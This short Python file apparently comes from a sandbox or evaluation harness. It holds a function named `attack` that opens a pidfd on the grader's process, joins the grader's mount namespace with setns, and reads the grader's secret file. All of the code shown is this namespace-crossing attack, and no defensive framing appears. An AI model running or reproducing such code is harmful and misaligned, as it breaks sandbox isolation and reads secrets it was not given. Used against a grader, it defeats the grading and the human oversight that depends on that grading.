"""Joins the grader's namespaces by `setns`, where its files are."""

import ctypes


def attack(A):
    libc = ctypes.CDLL(None, use_errno=True)
    pid, none = ctypes.c_long(TARGET["grader"]), ctypes.c_long(0)
    pidfd = libc.syscall(ctypes.c_long(434), pid, none)
    if libc.setns(pidfd, 0x00020000):
        raise OSError(ctypes.get_errno(), "setns")
    return open(TARGET["secret"]).read()
